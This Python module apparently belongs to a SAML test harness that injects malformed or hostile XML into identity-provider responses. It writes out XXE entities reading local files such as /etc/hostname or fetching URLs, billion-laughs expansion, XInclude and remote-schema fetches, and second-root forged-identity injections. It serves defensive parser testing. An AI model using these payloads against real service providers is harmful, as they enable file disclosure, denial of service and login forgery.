"""Faults of the document: DTDs, entities, remote schemas, further roots, broken markup and encodings."""

from __future__ import annotations

import re
from collections.abc import Callable
from xml.sax.saxutils import escape

from fake_idp.faults.edit import FOREIGN_NS
from fake_idp.faults.forge import forgery_of
from fake_idp.faults.registry import on, register
from fake_idp.faults.signature_references import listener
from fake_idp.saml.names import NS_SAML2P, NS_XSI
from fake_idp.saml.nodes import Element
from fake_idp.saml.pipeline import FaultContext, Wire

DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>'
NO_DTD = "Kantara IIP-G03; saml2int SDP-G03"
OWASP = "OWASP XML security and XXE prevention cheat sheets"
_ROOT = re.compile(rb"<[A-Za-z_][\w.:-]*")
_PLACE_FOR_ENTITY = (b"</saml2:NameID>", b"</saml2:Issuer>")


def before_root(xml: bytes, markup: str) -> bytes:
    """``markup`` between the XML declaration and the root element."""
    at = _ROOT.search(xml)
    position = at.start() if at else 0
    return xml[:position] + markup.encode() + xml[position:]


def inside_value(xml: bytes, markup: str) -> bytes:
    """``markup`` at the end of the NameID; in an encrypted message, at the end of the Issuer."""
    for place in _PLACE_FOR_ENTITY:
        if place in xml:
            return xml.replace(place, markup.encode() + place, 1)
    return xml


def _doctype(internal: str = "", external: str = "") -> str:
    subset = f" [{internal}]" if internal else ""
    return f"<!DOCTYPE saml2p:Response{external}{subset}>"


@on("wire", "xml-doctype", source=NO_DTD)
def doctype_bare(message: Wire) -> None:
    """There is a DOCTYPE, and nothing in it."""
    message.xml = before_root(message.xml, _doctype())


def _entity(fault_id: str, title: str, uri: Callable[[FaultContext], str]) -> None:
    def apply(message: Wire, context: FaultContext) -> None:
        declared = _doctype(f'<!ENTITY x SYSTEM "{uri(context)}">')
        message.xml = before_root(inside_value(message.xml, "&x;"), declared)

    register(fault_id, title, "wire", apply, "xml-external-entity", source=f"{NO_DTD}; {OWASP}")


_entity(
    "entity-external-http",
    "The NameID ends in an entity that is to be fetched by http.",
    lambda context: listener(context, "entity-external-http"),
)
_entity(
    "entity-external-file",
    "The NameID ends in an entity that is a file on the SP's machine.",
    lambda context: f"file://{context.data.get('file', '/etc/hostname')}",
)


@on("wire", "xml-external-entity", source=f"{NO_DTD}; {OWASP}")
def entity_external_parameter(message: Wire, context: FaultContext) -> None:
    """The DOCTYPE has a parameter entity that is to be fetched by http."""
    url = listener(context, "entity-external-parameter")
    message.xml = before_root(message.xml, _doctype(f'<!ENTITY % x SYSTEM "{url}"> %x;'))


@on("wire", "xml-external-entity", source=f"{NO_DTD}; {OWASP}")
def dtd_external_subset(message: Wire, context: FaultContext) -> None:
    """The DOCTYPE names an external subset, to be fetched by http."""
    message.xml = before_root(
        message.xml, _doctype(external=f' SYSTEM "{listener(context, "dtd-external-subset")}"')
    )


@on("wire", "xml-entity-expansion", source=f"{OWASP}; XML Signature Best Practices", consent=True)
def entity_expansion_nested(message: Wire) -> None:
    """Seven levels of entities that each name the next ten times: 30 MB, should somebody expand them."""
    levels = ['<!ENTITY x0 "lol">']
    levels += [f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 8)]
    message.xml = before_root(inside_value(message.xml, "&x7;"), _doctype("".join(levels)))


@on("wire", "xml-entity-expansion", source=f"{OWASP}; XML Signature Best Practices", consent=True)
def entity_expansion_quadratic(message: Wire) -> None:
    """An entity of 30 kB that is named a thousand times: 30 MB, should somebody expand it."""
    declared = _doctype(f'<!ENTITY x "{"lol" * 10_000}">')
    message.xml = before_root(inside_value(message.xml, "&x;" * 1000), declared)


@on("tree", "xml-remote-schema", source="OWASP SAML cheat sheet: local schemas only")
def schema_location_remote(response: Element, context: FaultContext) -> None:
    """An xsi:schemaLocation says that the protocol's schema is at a URL."""
    response.set("xmlns:xsi", NS_XSI)
    response.set("xsi:schemaLocation", f"{NS_SAML2P} {listener(context, 'schema-location-remote')}")


@on("tree", "xml-remote-schema", source="XInclude 1.0; OWASP SAML cheat sheet")
def xinclude_remote(response: Element, context: FaultContext) -> None:
    """Extensions hold an xi:include of a URL."""
    include = Element(
        "xi:include",
        {
            "href": listener(context, "xinclude-remote"),
            "parse": "text",
            "xmlns:xi": "http://www.w3.org/2001/XInclude",
        },
    )
    extensions = Element("saml2p:Extensions", {"xmlns:saml2p": NS_SAML2P}, [include])
    response.insert_before(response.one("saml2p:Status"), extensions)


@on("wire", "xml-remote-schema", source="Associating Style Sheets with XML documents")
def stylesheet_pi_remote(message: Wire, context: FaultContext) -> None:
    """An xml-stylesheet instruction before the root names a URL."""
    url = listener(context, "stylesheet-pi-remote")
    message.xml = before_root(message.xml, f'<?xml-stylesheet type="text/xsl" href="{url}"?>')


# -- more than one root, or none


def _forged_text(xml: bytes, context: FaultContext) -> bytes:
    """The document with the genuine person's name replaced, as text."""
    genuine = context.claims.name_id if context.claims else ""
    name_id = Element("saml2:Subject", {}, [Element("saml2:NameID", {}, [genuine])])
    forged = forgery_of(name_id, context).identity
    return xml.replace(escape(genuine).encode(), escape(forged).encode())


@on("wire", "xml-multiple-roots", source="XML 1.0, section 2.1; CVE-2022-39299")
def second_root(message: Wire, context: FaultContext) -> None:
    """A second Response, with the forged identity, follows the first."""
    message.xml += _forged_text(message.xml.removeprefix(DECLARATION), context)


@on("wire", "xml-multiple-roots", source="XML 1.0, section 2.1; CVE-2022-39299")
def second_root_first(message: Wire, context: FaultContext) -> None:
    """A Response with the forged identity precedes the genuine one."""
    body = message.xml.removeprefix(DECLARATION)
    message.xml = DECLARATION + _forged_text(body, context) + body


@on("wire", "xml-multiple-roots", source="XML 1.0, section 2.1; CVE-2022-39299")
def trailing_assertion(message: Wire, context: FaultContext) -> None:
    """An assertion with the forged identity follows the Response."""
    found = re.search(
        rb"<saml2:(Encrypted)?Assertion.*</saml2:(Encrypted)?Assertion>", message.xml, re.DOTALL
    )
    message.xml += _forged_text(found.group() if found else b"<saml2:Assertion/>", context)


@on("wire", "xml-multiple-roots", source="XML 1.0, section 2.1")
def trailing_text(message: Wire) -> None:
    """A word follows the Response."""
    message.xml += b"trailing"


def _bytes(
    fault_id: str, title: str, change: Callable[[bytes], bytes], requirement: str, source: str
) -> None:
    def apply(message: Wire) -> None:
        message.xml = change(message.xml)

    register(fault_id, title, "wire", apply, requirement, source=source)


def _last_end_tag_misspelt(xml: bytes) -> bytes:
    return re.sub(rb"(</[\w:]+)>\s*$", rb"\1x>", xml)


_BROKEN = ("xml-not-well-formed", "XML 1.0, section 2.1; SAML Core 3.2.2")
_bytes("truncated", "The second half of the document is missing.", lambda xml: xml[: len(xml) // 2], *_BROKEN)
_bytes("tags-mismatched", "The last end tag does not match its start tag.", _last_end_tag_misspelt, *_BROKEN)
_bytes("binary", "The message is a few bytes that are no text.", lambda _: bytes(range(256)), *_BROKEN)
_bytes("empty-message", "The message is empty.", lambda _: b"", *_BROKEN)


@on("wire", "xml-not-well-formed", source="SAML Bindings 3.5.4, lines 793-794")
def not_base64(message: Wire) -> None:
    """The form field is no base64."""
    message.encoded = "this is not base64, it is a sentence!"


def _directive(xml: bytes) -> bytes:
    at = xml.rindex(b"</")
    return xml[:at] + b"<!ATTLIST x y CDATA 'z'>" + xml[at:]


_ROUND_TRIP = (
    "xml-roundtrip-mutation",
    "XML Signature 1.1, section 8.1; encoding/xml of Go, CVE-2020-29509 to -29511",
)
_bytes(
    "directive-mid-document",
    "A markup declaration stands in the middle of the document.",
    _directive,
    *_ROUND_TRIP,
)


def _double_colon(xml: bytes) -> bytes:
    at = xml.rindex(b"</")
    return xml[:at] + f'<x:y:z xmlns:x="{FOREIGN_NS}"/>'.encode() + xml[at:]


_bytes("name-double-colon", "An element's name has two colons.", _double_colon, *_ROUND_TRIP)


# -- encodings

_ENCODINGS = ("xml-encodings", "XML 1.0, section 4.3.3")


def _declared(xml: bytes, encoding: str) -> bytes:
    return xml.replace(DECLARATION, f'<?xml version="1.0" encoding="{encoding}"?>'.encode(), 1)


def _utf16(xml: bytes) -> bytes:
    return _declared(xml, "UTF-16").decode().encode("utf-16")


def _utf7(xml: bytes) -> bytes:
    head = b'<?xml version="1.0" encoding="UTF-7"?>'
    body = xml.removeprefix(DECLARATION).decode()
    return head + body.replace("<", "+ADw-").replace(">", "+AD4-").encode("ascii", "xmlcharrefreplace")


def _overlong(xml: bytes) -> bytes:
    """The first full stop or at sign of a value as two bytes, which UTF-8 forbids."""
    at = xml.index(b"</saml2:Issuer>") - 1
    character = xml[at]
    return xml[:at] + bytes([0xC0 | character >> 6, 0x80 | character & 0x3F]) + xml[at + 1 :]


_bytes("encoding-utf16", "The document is UTF-16, and says so.", _utf16, *_ENCODINGS)
_bytes(
    "encoding-wrong-declaration",
    "The document is UTF-8 but says that it is UTF-16.",
    lambda xml: _declared(xml, "UTF-16"),
    *_ENCODINGS,
)
_bytes("encoding-utf7", "The document is UTF-7, and says so.", _utf7, *_ENCODINGS)
_bytes("encoding-overlong", "A character of the Issuer is overlong UTF-8.", _overlong, *_ENCODINGS)
_bytes(
    "encoding-utf8-bom",
    "A byte order mark precedes the UTF-8.",
    lambda xml: b"\xef\xbb\xbf" + xml,
    *_ENCODINGS,
)
_bytes(
    "encoding-unknown",
    "The declaration names an encoding that does not exist.",
    lambda xml: _declared(xml, "x-okta-harness"),
    *_ENCODINGS,
)
_bytes(
    "xml-1-1",
    "The document says that it is XML 1.1.",
    lambda xml: xml.replace(b'version="1.0"', b'version="1.1"', 1),
    *_ENCODINGS,
)
